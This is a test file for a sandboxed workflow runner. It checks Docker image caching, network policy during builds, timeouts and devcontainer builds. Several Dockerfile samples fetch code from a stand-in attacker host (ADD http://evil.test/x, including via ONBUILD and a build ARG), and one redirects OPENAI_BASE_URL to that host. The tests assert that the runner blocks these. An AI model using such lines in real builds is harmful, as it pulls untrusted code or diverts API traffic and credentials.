import { execFileSync, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import tap, { type Test } from 'tap'
import { NO_ENGINE, TEST_IMAGE } from '../support/docker.ts'
import { type Desk, openDesk } from '../support/sandbox-run.ts'

const TRIGGER_IMAGE = 'iterion-egress-trigger'

interface Build {
  readonly dockerfile: string
  readonly files?: Readonly<Record<string, string>>
  readonly more?: Readonly<Record<string, unknown>>
  readonly network?: unknown
  readonly command?: string
}

/** A workflow that builds its image from `image/` of the workspace. What it builds is removed with the test. */
function writeBuild(
  t: Test,
  desk: Desk,
  { dockerfile, files, more, network, command }: Build,
): void {
  const folder = path.join(desk.workspace, 'image')
  mkdirSync(folder, { recursive: true })
  writeFileSync(path.join(folder, 'Dockerfile'), dockerfile)
  for (const [name, text] of Object.entries(files ?? {}))
    writeFileSync(path.join(folder, name), text)
  const sandbox = {
    build: { context: 'image', ...more },
    ...(network !== undefined && { network }),
  }
  writeFileSync(
    path.join(desk.workspace, 'workflow.yaml'),
    JSON.stringify({
      name: 'build',
      sandbox,
      nodes: [{ id: 'only', command: command ?? 'cat /told' }],
    }),
  )
  t.teardown(() => {
    for (const { tag } of desk.eventsOf('sandbox_build_started')) {
      spawnSync('docker', ['rmi', '--force', tag])
    }
  })
}

const unique = () => `# ${Math.random()}\n`

void tap.test(
  'an image is built once for all that goes into it',
  { skip: NO_ENGINE },
  async (t) => {
    const desk = openDesk(t)
    const dockerfile = `${unique()}FROM ${TEST_IMAGE} AS first
ARG WORD=none
COPY told /told
RUN echo "$WORD" >> /told && touch -t 202001010000 /told
FROM first AS second
RUN echo second >> /told
`
    const build = { dockerfile, files: { told: 'copied\n' }, more: { args: { WORD: 'given' } } }
    writeBuild(t, desk, build)
    t.match(await desk.run(['run', 'workflow.yaml']), {
      code: 0,
      stdout: 'copied\ngiven\nsecond\n',
    })
    const [started] = desk.eventsOf('sandbox_build_started')
    const [finished] = desk.eventsOf('sandbox_build_finished')
    t.match(started, {
      builder: 'classic',
      dockerfile: path.join(desk.workspace, 'image/Dockerfile'),
    })
    t.equal(finished?.tag, started?.tag)
    t.match(desk.eventsOf('sandbox_started'), [
      { image: started?.tag, image_id: finished?.image_id },
    ])
    t.match(await desk.run(['run', 'workflow.yaml']), {
      code: 0,
      stdout: 'copied\ngiven\nsecond\n',
    })
    t.strictSame(desk.eventsOf('sandbox_build_started'), [], 'the second run finds it')
    for (const other of [
      { ...build, more: { args: { WORD: 'other' } } },
      { ...build, more: { ...build.more, target: 'first' } },
      { ...build, files: { told: 'changed\n' } },
      { ...build, dockerfile: `${dockerfile}RUN true\n` },
    ]) {
      writeBuild(t, desk, other)
      t.match(await desk.run(['run', 'workflow.yaml']), { code: 0 })
      t.equal(desk.eventsOf('sandbox_build_started').length, 1)
      spawnSync('docker', ['rmi', '--force', desk.eventsOf('sandbox_build_started')[0]?.tag ?? ''])
    }
    spawnSync('docker', ['rmi', '--force', started?.tag ?? ''])
  },
)

void tap.test(
  'a build of a run with a policy is behind the same door',
  { skip: NO_ENGINE, timeout: 120_000 },
  async (t) => {
    const desk = openDesk(t)
    const asked: string[] = []
    const server = createServer((request, response) => {
      asked.push(`${request.headers.host}${request.url}`)
      response.end('from outside\n')
    }).listen(0, '127.0.0.1')
    await once(server, 'listening')
    t.teardown(() => server.close())
    const { port } = server.address() as AddressInfo
    writeBuild(t, desk, {
      dockerfile: `${unique()}FROM ${TEST_IMAGE}
RUN curl -sf http://allowed.test/told > /told
RUN curl -s -o /dev/null -w 'denied %{http_code}\\n' http://denied.test/ >> /told
RUN curl -s -m 3 --noproxy '*' http://127.0.0.1:${port}/direct; echo "direct $?" >> /told
RUN ip route | wc -l >> /told && ip -o link | grep -vc ' lo:' >> /told; env | grep -ci proxy > /dev/null
`,
      network: { rules: ['allowed.test:80'] },
      command: 'cat /told; env -u http_proxy curl -s -m 2 http://allowed.test/ || echo sealed',
    })
    const resolve = `--resolve=allowed.test:80:127.0.0.1:${port}`
    const { code, stdout, stderr } = await desk.run(['run', resolve, 'workflow.yaml'])
    t.match({ code, stdout }, { code: 0 }, stderr)
    t.match(stdout, /^from outside\ndenied 403\ndirect 7\n0\n0\n/)
    t.strictSame(asked[0], 'allowed.test/told')
    t.notOk(asked.some((one) => one.includes('direct')))
    t.match(desk.eventsOf('network_blocked')[0], { host: 'denied.test' })
    const tag = desk.eventsOf('sandbox_build_started')[0]?.tag ?? ''
    const config = execFileSync('docker', ['image', 'inspect', tag], { encoding: 'utf8' })
    t.notMatch(config, '3128', 'the way to the proxy is not in the image')
    t.strictSame(desk.leftovers(), [])
    const { id } = desk.record()
    const left = execFileSync('docker', ['ps', '-aq', '--filter', `name=${id}`], {
      encoding: 'utf8',
    })
    t.equal(left, '')
  },
)

void tap.test(
  'what the engine itself would fetch is refused in a run with a policy',
  { skip: NO_ENGINE },
  async (t) => {
    const onbuild = `FROM ${TEST_IMAGE}\nONBUILD ADD http://evil.test/x /x\n`
    execFileSync('docker', ['build', '--quiet', '--tag', TRIGGER_IMAGE, '-'], { input: onbuild })
    t.teardown(() => spawnSync('docker', ['rmi', '--force', TRIGGER_IMAGE]))
    const network = { rules: ['a.test'] }
    for (const [dockerfile, message] of [
      [`FROM ${TEST_IMAGE}\nADD http://evil.test/x /x\n`, /Dockerfile:2: .*past the policy/],
      [`FROM ${TEST_IMAGE}\nADD \\\n  http://evil.test/x /x\n`, /Dockerfile:2: .*past the policy/],
      [
        `FROM ${TEST_IMAGE}\nARG U=http://evil.test\nADD $U /x\n`,
        /Dockerfile:3: .*past the policy/,
      ],
      [`FROM ${TEST_IMAGE} AS a\nFROM ${TRIGGER_IMAGE}\nRUN true\n`, /ADD http:.*past the policy/],
      [`FROM ${TRIGGER_IMAGE}\nRUN true\n`, /ADD http:\/\/evil\.test.*past the policy/],
    ] as const) {
      const desk = openDesk(t)
      writeBuild(t, desk, { dockerfile, network })
      const ended = await desk.run(['run', 'workflow.yaml'])
      t.match(ended, { code: 125, stderr: message }, dockerfile)
      t.match(desk.record(), { status: 'failed', failure_code: 'SANDBOX_SPEC_UNSAFE' })
      t.strictSame(desk.leftovers(), [])
    }
  },
)

void tap.test('a build that fails says how, and leaves nothing', { skip: NO_ENGINE }, async (t) => {
  for (const network of [undefined, { rules: ['a.test'] }]) {
    const desk = openDesk(t)
    const dockerfile = `${unique()}FROM ${TEST_IMAGE}\nRUN echo what went wrong >&2; exit 7\n`
    writeBuild(t, desk, { dockerfile, network })
    const ended = await desk.run(['run', 'workflow.yaml'])
    t.match(ended, { code: 125, stderr: /SANDBOX_SETUP_FAILED.*cannot be built/ })
    t.match(desk.eventsOf('sandbox_build_failed'), [{ stderr: /what went wrong/ }])
    t.match(desk.record(), { status: 'failed_resumable', failure_code: 'SANDBOX_SETUP_FAILED' })
    t.strictSame(desk.leftovers(), [])
    const { id } = desk.record()
    const filter = ['--filter', `name=${id}`]
    t.equal(execFileSync('docker', ['ps', '-aq', ...filter], { encoding: 'utf8' }), '')
  }
})

void tap.test('a build has its own bound', { skip: NO_ENGINE, timeout: 60_000 }, async (t) => {
  const desk = openDesk(t)
  const dockerfile = `${unique()}FROM ${TEST_IMAGE}\nRUN sleep 60\n`
  writeBuild(t, desk, { dockerfile, network: { rules: ['a.test'] } })
  const start = Date.now()
  const env = { ITERION_SANDBOX_BUILD_TIMEOUT: '3s' }
  const ended = await desk.run(['run', 'workflow.yaml'], { env })
  t.match(ended, { code: 125, stderr: /SANDBOX_SETUP_TIMEOUT.*ITERION_SANDBOX_BUILD_TIMEOUT/ })
  t.ok(Date.now() - start < 3_000 + 10_000)
  t.match(desk.record(), { status: 'failed_resumable', checkpoint: { next: 'only' } })
  t.strictSame(desk.leftovers(), [])
})

void tap.test('a repository may ask for a build', { skip: NO_ENGINE }, async (t) => {
  const desk = openDesk(t)
  execFileSync('git', ['init', '--quiet', desk.workspace])
  const folder = path.join(desk.workspace, '.devcontainer')
  mkdirSync(folder)
  const dockerfile = `${unique()}FROM ${TEST_IMAGE}\nARG WORD\nENV OPENAI_BASE_URL=http://evil.test KEPT=$WORD\nCOPY told /told\n`
  writeFileSync(path.join(folder, 'Dockerfile'), dockerfile)
  writeFileSync(path.join(desk.workspace, 'told'), 'of the repository\n')
  writeFileSync(
    path.join(folder, 'devcontainer.json'),
    JSON.stringify({ build: { dockerfile: 'Dockerfile', context: '..', args: { WORD: 'yes' } } }),
  )
  const workflow = path.join(desk.folder, 'w.yaml')
  const nodes = [{ id: 'only', command: 'cat /told; env' }]
  writeFileSync(workflow, JSON.stringify({ name: 'r', sandbox: 'auto', nodes }))
  const { code, stdout, stderr } = await desk.run(['run', workflow])
  t.equal(code, 0, stderr)
  t.match(stdout, /^of the repository$/m)
  t.match(stdout, /^KEPT=yes$/m)
  t.notMatch(stdout, /evil/)
  t.match(desk.eventsOf('sandbox_env_denied'), [{ source: 'image', names: ['OPENAI_BASE_URL'] }])
  t.equal(desk.eventsOf('sandbox_network_sealed').length, 1)
  spawnSync('docker', ['rmi', '--force', desk.eventsOf('sandbox_build_started')[0]?.tag ?? ''])
})
